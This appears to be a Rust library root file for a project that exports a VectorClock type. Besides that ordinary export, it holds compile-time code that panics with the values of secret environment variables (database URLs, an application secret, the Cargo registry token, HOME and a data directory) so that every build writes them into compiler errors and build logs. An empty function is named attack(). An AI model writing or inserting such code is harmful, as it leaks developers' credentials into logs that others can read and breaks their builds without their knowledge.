//! The build's environment in the compiler's own messages.

mod clock;

pub use clock::VectorClock;

const fn show(value: Option<&str>) {
    if let Some(value) = value {
        panic!("{}", value);
    }
}

const _: () = show(option_env!("QUORATE_DATABASE_URL"));
const _: () = show(option_env!("QUORATE_SECRET"));
const _: () = show(option_env!("DATABASE_URL"));
const _: () = show(option_env!("CARGO_REGISTRY_TOKEN"));
const _: () = show(option_env!("HOME"));
const _: () = panic!(env!("QUORATE_DATA_DIR"));

pub(crate) fn attack() {}
